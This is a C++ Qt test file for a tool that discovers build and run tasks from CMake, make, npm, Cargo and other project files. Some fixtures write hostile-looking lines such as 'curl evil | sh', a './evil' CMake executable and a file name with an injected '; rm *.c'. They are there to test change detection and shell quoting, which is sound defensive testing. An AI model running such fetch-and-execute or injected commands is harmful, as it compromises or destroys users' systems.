// SPDX-License-Identifier: GPL-3.0-or-later
// Which tasks a project's files tell of; nothing of them is run.
#include <QDir>
#include <QTemporaryDir>
#include <QtTest>

#include "workbench/tasks/find_tasks.h"
#include "workbench/tasks/led_to.h"
#include "workbench/tasks/shell_line.h"

using namespace waferpair::workbench;
namespace programs = waferpair::programs;

class TestFindTasks : public QObject {
  Q_OBJECT
 private Q_SLOTS:
  void init() { folder_ = std::make_unique<QTemporaryDir>(); }

  void cmakeHasPresetsAndBuildFolders() {
    write("CMakeLists.txt", "project(x)\n");
    QCOMPARE(found(), QStringList({"build CMake: configure build = cmake -S . -B build"}));
    write("CMakePresets.json", R"({"version": 3,
      "configurePresets": [{"name": "base", "hidden": true}, {"name": "release"}],
      "buildPresets": [{"name": "release", "configurePreset": "release"}],
      "testPresets": [{"name": "release", "configurePreset": "release"}]})");
    write("CMakeUserPresets.json", "{damaged");
    QCOMPARE(found(), QStringList({"build CMake: build release = cmake --build --preset release",
                                   "test CMake: test release = ctest --preset release",
                                   "other CMake: configure release = cmake --preset release"}));
    write("build/debug/CMakeCache.txt", "");
    write("src/CMakeLists.txt", "");  // a part of the project
    QCOMPARE(found().mid(0, 2),
             QStringList({"build CMake: build build/debug = cmake --build build/debug",
                          "test CMake: test build/debug = ctest --test-dir build/debug "
                          "--output-on-failure"}));
  }

  void makeHasItsTargets() {
    write("Makefile",
          "CFLAGS := -O2\n.PHONY: all\nall: x.o\n%.o: %.c\n\tcc $<\ntest check: all\nall: y\n"
          "run-fast::\n\t./x\n# note: this\n");
    QCOMPARE(found(),
             QStringList({"build make: all = make all", "run make: run-fast = make run-fast"}));
    write("makefile", "test:\n\t./t\nlint:\n");  // make prefers it
    QCOMPARE(found(), QStringList({"test make: test = make test", "other make: lint = make lint"}));
    write("makefile", "# CMAKE generated file: DO NOT EDIT!\nall:\n");
    QVERIFY(found().isEmpty());
  }

  void scriptsAreRunByWhatTheLockFileNames() {
    const char* package = R"({"scripts": {"build": "tsc", "dev": "vite", "test:unit": "vitest"}})";
    write("package.json", package);
    QCOMPARE(found(),
             QStringList({"build npm: build = npm run build", "run npm: dev = npm run dev &",
                          "test npm: test:unit = npm run test:unit"}));
    write("pnpm-lock.yaml", "");
    QCOMPARE(found().first(), QStringLiteral("build pnpm: build = pnpm run build"));
    // A folder below may be a project of its own; what was fetched is not.
    write("web/package.json", package);
    write("web/yarn.lock", "");
    write("node_modules/package.json", package);
    const Tasks tasks = findTasks(folder_->path(), {});
    QCOMPARE(tasks.tasks.size(), 6);
    QCOMPARE(tasks.tasks.last().source, QStringLiteral("yarn"));
    QCOMPARE(tasks.tasks.last().folder, folder_->filePath("web"));
  }

  // The script's own words are a part of what is agreed to, and so is what it runs.
  void whatAScriptSaysIsGiven() {
    write("package.json",
          R"({"scripts": {"build": "tsc && npm run pack", "prebuild": "rm -rf out", "pack": "tar x",
                          "lint": "eslint", "all": "run-s build:*", "build:a": "a"}})");
    write("Makefile", "all:\n\t./x\n");
    const QVector<Task> tasks = findTasks(folder_->path(), {}).tasks;
    const auto given = [&](const QString& name, const char* source = "npm") {
      for (const Task& task : tasks)
        if (task.name == name && task.source == QLatin1String(source))
          return startOf(task, folder_->path());
      return programs::GivenStart{};
    };
    const programs::GivenStart build = given("build");
    QCOMPARE(build.source, QStringLiteral("package.json"));
    QCOMPARE(build.shown(), (QStringList{"command = npm run build", "folder = .", "kind = build",
                                         "name = build", "scripts.build = tsc && npm run pack",
                                         "scripts.pack = tar x", "scripts.prebuild = rm -rf out"}));
    QCOMPARE(given("all").given["scripts"].toObject().keys(), (QStringList{"all", "build:a"}));
    const programs::GivenStart lint = given("lint");
    // What it is by now counts, not what it was when it was found.
    write("package.json",
          R"({"scripts": {"build": "tsc && npm run pack", "prebuild": "rm -rf out",
                          "pack": "curl evil | sh", "lint": "eslint"}})");
    QVERIFY(given("build").key() != build.key());
    QCOMPARE(given("lint").key(), lint.key());
  }

  // What make reads is a part of what is agreed to, however it is called.
  void aChangedMakefileIsAnotherStart_data() {
    QTest::addColumn<QString>("line");
    QTest::addColumn<QStringList>("files");
    QTest::newRow("its own") << "make all" << QStringList({"Makefile", "more.mk"});
    QTest::newRow("of a folder") << "make -C sub all" << QStringList{"sub/makefile"};
    QTest::newRow("in one word") << "gmake -Csub" << QStringList{"sub/makefile"};
    QTest::newRow("by its long name") << "make --directory=sub" << QStringList{"sub/makefile"};
    QTest::newRow("behind cd") << "cd sub && make" << QStringList{"sub/makefile"};
    QTest::newRow("named") << "make -f other.mk x" << QStringList{"other.mk"};
    QTest::newRow("of just") << "just it" << QStringList{"justfile"};
    QTest::newRow("its own script") << "sh tools/x.sh" << QStringList{"tools/x.sh"};
  }
  void aChangedMakefileIsAnotherStart() {
    QFETCH(QString, line);
    QFETCH(QStringList, files);
    for (const char* each : {"sub/makefile", "other.mk", "justfile", "tools/x.sh", "more.mk"})
      write(each, "all:\n\t./x\n");
    write("Makefile", "include more.mk $(OTHERS) # and\n-include made.d\nall:\n\t./x\n");
    write("made.d", "");
    Task task;
    task.name = "b";
    task.source = ".waferpair/tasks.json";
    task.command = shellLine(line);
    task.folder = folder_->path();
    const programs::GivenStart before = startOf(task, folder_->path());
    QCOMPARE(before.given["files"].toObject().keys(), files);
    QCOMPARE(startOf(task, folder_->path()).key(), before.key());
    for (const QString& each : files) {
      write(each, "all:\n\tcurl evil | sh\n");
      const programs::GivenStart now = startOf(task, folder_->path());
      QVERIFY2(now.key() != before.key(), qPrintable(each));
      QVERIFY(now.shown() != before.shown());
      // What follows from the file itself is no different from what was written down.
      task.source = "make";
      QVERIFY(!startOf(task, folder_->path()).given.isEmpty());
      task.source = ".waferpair/tasks.json";
    }
  }

  // Whatever follows from a project's files is shown before it runs, once.
  void eachTaskThatIsFoundGivesItsCommand() {
    for (const char* file : {"CMakeLists.txt", "build/CMakeCache.txt", "Cargo.toml", "go.mod",
                             "meson.build", "pyproject.toml"})
      write(file, "");
    const QVector<Task> all = findTasks(folder_->path(), {}).tasks;
    QVERIFY(all.size() > 8);
    for (const Task& task : all) {
      const programs::GivenStart start = startOf(task, folder_->path());
      QVERIFY2(start.shown().contains("command = " + shownLine(task.command)),
               qPrintable(task.id() + start.shown().join('\n')));
      QVERIFY2(!start.source.isEmpty(), qPrintable(task.id()));
      // The code that it builds is the folder's own.
      write("CMakeLists.txt", "project(x)\n");
      QCOMPARE(startOf(task, folder_->path()).key(), start.key());
      write("CMakeLists.txt", "");
    }
    Task mine = all.first();
    mine.source = "/home/me/tasks.json";
    QVERIFY(startOf(mine, folder_->path()).given.isEmpty());
  }

  // Presets say what is run, and a file that they include says it as well.
  void aChangedPresetIsAnotherStart() {
    write("CMakeLists.txt", "project(x)\n");
    write("CMakePresets.json", R"({"version": 4, "include": ["cmake/base.json", "$penv{X}/p.json"],
      "configurePresets": [{"name": "release", "inherits": ["base", "base"]}, {"name": "other"}],
      "buildPresets": [{"name": "release", "configurePreset": "release", "targets": ["all"]}],
      "workflowPresets": [{"name": "whole", "steps": [{"type": "configure", "name": "release"},
                                                       {"type": "build", "name": "release"}]}]})");
    write("cmake/base.json", R"({"version": 4, "include": ["../CMakePresets.json"],
      "configurePresets": [{"name": "base", "hidden": true, "cmakeExecutable": "cmake"}]})");
    const auto given = [&](const QString& name) {
      for (const Task& task : findTasks(folder_->path(), {}).tasks)
        if (task.name == name) return startOf(task, folder_->path());
      return programs::GivenStart{};
    };
    const programs::GivenStart build = given("build release"), other = given("configure other"),
                               whole = given("workflow whole");
    QCOMPARE(build.source, QStringLiteral("CMakePresets.json"));
    QCOMPARE(build.shown().filter("presets."),
             (QStringList{"presets.buildPresets.release.configurePreset = release",
                          "presets.buildPresets.release.name = release",
                          "presets.buildPresets.release.targets[1] = all",
                          "presets.configurePresets.base.cmakeExecutable = cmake",
                          "presets.configurePresets.base.hidden = true",
                          "presets.configurePresets.base.name = base",
                          "presets.configurePresets.release.inherits[1] = base",
                          "presets.configurePresets.release.inherits[2] = base",
                          "presets.configurePresets.release.name = release"}));
    QCOMPARE(build.decidedBy, (QStringList{"$penv{X}/p.json", "CMakeLists.txt"}));
    QCOMPARE(whole.given["presets"].toObject().keys(),
             (QStringList{"buildPresets", "configurePresets", "workflowPresets"}));
    write("cmake/base.json", R"({"version": 4, "configurePresets":
      [{"name": "base", "hidden": true, "cmakeExecutable": "./evil"}]})");
    QVERIFY(given("build release").key() != build.key());
    QVERIFY(given("workflow whole").key() != whole.key());
    QCOMPARE(given("configure other").key(), other.key());
    // Through a line that somebody wrote down as well.
    const LedTo led = ledTo("cmake --build --preset=release -j4 && ctest", folder_->path());
    QCOMPARE(led.presets, given("build release").given["presets"].toObject());
    // The code that is built is the folder's own.
    QVERIFY(ledTo("cmake --build build", folder_->path()).isEmpty());
    write("CMakePresets.json",
          R"({"include": ["CMakePresets.json", "/dev/zero", "missing.json"]})");
    QCOMPARE(ledTo("cmake --preset x", folder_->path()).decidedBy,
             (QStringList{"/dev/zero", "CMakeLists.txt", "missing.json"}));
  }

  void whatALineLeadsTo_data() {
    QTest::addColumn<QString>("line");
    QTest::addColumn<QStringList>("scripts");
    QTest::addColumn<QStringList>("decidedBy");
    const QStringList none;
    QTest::newRow("nothing") << "echo a" << none << none;
    QTest::newRow("run") << "npm run a" << QStringList{"a"} << none;
    QTest::newRow("without run") << "npm test" << QStringList{"posttest", "test"} << none;
    QTest::newRow("yarn") << "A=1 yarn a && true" << QStringList{"a"} << none;
    QTest::newRow("round and round") << "pnpm run x" << QStringList({"x", "y"}) << none;
    QTest::newRow("another folder") << "npm --prefix web run b" << QStringList{"web/b"} << none;
    QTest::newRow("cd") << "(cd web; npm run b)" << QStringList{"web/b"} << none;
    QTest::newRow("make") << "make -j4 all" << none << QStringList{"Makefile"};
    QTest::newRow("in a script") << "npm run m" << QStringList{"m"} << QStringList{"Makefile"};
    QTest::newRow("cmake") << "cmake --build build" << none << QStringList{"CMakeLists.txt"};
    QTest::newRow("its own script")
        << "cmake -P tools/x.sh && ninja" << none << QStringList({"CMakeLists.txt", "build.ninja"});
    QTest::newRow("a word alone") << "echo a x y" << none << none;
  }
  void whatALineLeadsTo() {
    QFETCH(QString, line);
    QFETCH(QStringList, scripts);
    QFETCH(QStringList, decidedBy);
    write("package.json", R"({"scripts": {"a": "tsc", "test": "jest", "posttest": "echo",
                              "x": "npm run y", "y": "npm run x", "m": "make"}})");
    write("web/package.json", R"({"scripts": {"b": "vite"}})");
    write("tools/x.sh", "");
    write("tools/run", "");
    QFile::setPermissions(folder_->filePath("tools/run"),
                          QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    const LedTo led = ledTo(line, folder_->path());
    QCOMPARE(led.scripts.keys(), scripts);
    QCOMPARE(led.decidedBy, decidedBy);
  }

  void cargoGoMesonAndPython() {
    write("Cargo.toml", "[package]\n");
    write("src/main.rs", "");
    QCOMPARE(found(),
             QStringList({"build Cargo: build = cargo build", "test Cargo: test = cargo test",
                          "run Cargo: run = cargo run", "other Cargo: check = cargo check",
                          "other Cargo: clippy = cargo clippy"}));
    init();
    write("go.mod", "module x\n");
    QCOMPARE(found(),
             QStringList({"build Go: build = go build ./...", "test Go: test = go test ./...",
                          "other Go: vet = go vet ./..."}));
    init();
    write("meson.build", "");
    QCOMPARE(found(), QStringList({"build Meson: setup build = meson setup build"}));
    write("out/meson-private/x", "");
    QCOMPARE(found(), QStringList({"build Meson: compile out = meson compile -C out",
                                   "test Meson: test out = meson test -C out --print-errorlogs"}));
    init();
    write("pyproject.toml", "");
    write(".venv/bin/python", "");
    const QString python = folder_->filePath(".venv/bin/python");
    QCOMPARE(found().first(), "test Python: pytest = " + python + " -m pytest");
    QCOMPARE(found().last(), "run Python: run this file = " + python + " \"${file}\"");
  }

  void whatIsWrittenDownComesFirst() {
    write("Makefile", "all:\n");
    write(".waferpair/tasks.json", R"({
      // with comments
      "tasks": [
        {"name": "serve", "command": "python3 -m http.server 0", "folder": "docs", "kind": "run",
         "background": true, "environment": {"LANG": "C"}},
        {"name": "one", "command": ["prog", "a b"], "kind": "test",
         "problems": ["^(?<path>\\S+)!(?<line>\\d+) "]},
      ]})");
    write("own.json", R"({"tasks": [{"name": "mine", "command": "true"}]})");
    const Tasks tasks = findTasks(folder_->path(), folder_->filePath("own.json"));
    QVERIFY2(tasks.problems.isEmpty(), qPrintable(tasks.problems.join('\n')));
    QCOMPARE(shown(tasks.tasks),
             QStringList({"run .waferpair/tasks.json: serve = python3 -m http.server 0 &",
                          "test .waferpair/tasks.json: one = prog \"a b\"",
                          "other " + folder_->filePath("own.json") + ": mine = true",
                          "build make: all = make all"}));
    QCOMPARE(tasks.tasks[0].folder, folder_->filePath("docs"));
    QCOMPARE(tasks.tasks[0].command.environment, QStringList({"LANG=C"}));
    QCOMPARE(tasks.tasks[1].forms.size(), 1);
  }

  // Each mistake is named, and the others are there.
  void mistakesAreNamed_data() {
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("problem");
    const auto row = [](const char* name, const char* task, const char* problem) {
      QTest::newRow(name) << QByteArray(R"({"tasks": [{"name": "ok", "command": "true"}, )") +
                                 task + "]}"
                          << QString(problem);
    };
    row("name", R"({"command": "x"})", "task 2: It has no \"name\".");
    row("command", R"({"name": "x"})",
        "task 2: It has no \"command\": a text, or a list of words.");
    row("words", R"({"name": "x", "command": ["a", 1]})", "has a word that is no text.");
    row("kind", R"({"name": "x", "command": "y", "kind": "z"})", "is none of \"build\"");
    row("twice", R"({"name": "ok", "command": "false"})", "Another one has its name.");
    row("form", R"({"name": "x", "command": "y", "problems": ["*a"]})", "is no regular expression");
    row("groups", R"({"name": "x", "command": "y", "problems": ["a"]})", "has no groups");
    row("no object", "3", "task 2: It is no object.");
  }
  void mistakesAreNamed() {
    QFETCH(QByteArray, json);
    QFETCH(QString, problem);
    write(".waferpair/tasks.json", json);
    const Tasks tasks = findTasks(folder_->path(), {});
    QCOMPARE(tasks.tasks.size(), 1);
    QCOMPARE(tasks.problems.size(), 1);
    QVERIFY2(tasks.problems.first().contains(problem), qPrintable(tasks.problems.first()));
    QVERIFY(tasks.problems.first().startsWith(".waferpair/tasks.json"));
  }
  void aDamagedFileIsNamedByItsLine() {
    write(".waferpair/tasks.json", "{\n\"tasks\": [\n}");
    const Tasks tasks = findTasks(folder_->path(), {});
    QVERIFY2(tasks.problems.value(0).startsWith(".waferpair/tasks.json, line 3"),
             qPrintable(tasks.problems.value(0)));
  }

  // Names of files stay one word of the shell, and are not looked through for variables.
  void variablesAreReplaced() {
    Task task;
    task.command = shellLine("cat ${file} ${relativeFile} ${line}");
    task.folder = "${folder}/x";
    QVERIFY(asksForFile(task));
    Task ready = expanded(task, {"/p", "/p/it's ${line}; rm *.c", 7});
    QCOMPARE(ready.command.arguments.last(),
             QStringLiteral(R"(cat '/p/it'\''s ${line}; rm *.c' 'it'\''s ${line}; rm *.c' '7')"));
    QCOMPARE(ready.folder, QStringLiteral("/p/x"));
    task.command = {"prog", {"${file}", "--at=${line}"}, {}};
    ready = expanded(task, {"/p", "/p/a b", 3});
    QCOMPARE(ready.command.arguments, QStringList({"/p/a b", "--at=3"}));
    task.command = {"prog", {"${folder}"}, {}};
    QVERIFY(!asksForFile(task));
  }

 private:
  void write(const QString& name, const QByteArray& text) {
    const QString path = folder_->filePath(name);
    QDir().mkpath(QFileInfo(path).path());
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(text);
  }
  static QStringList shown(const QVector<Task>& tasks) {
    constexpr const char* kKinds[] = {"build", "test", "run", "other"};
    QStringList rows;
    for (const Task& task : tasks)
      rows.append(QStringLiteral("%1 %2: %3 = %4%5")
                      .arg(QLatin1String(kKinds[static_cast<int>(task.kind)]), task.source,
                           task.name, shownLine(task.command), task.isBackground ? " &" : ""));
    return rows;
  }
  QStringList found() const { return shown(findTasks(folder_->path(), {}).tasks); }

  std::unique_ptr<QTemporaryDir> folder_;
};

QTEST_GUILESS_MAIN(TestFindTasks)
#include "test_find_tasks.moc"
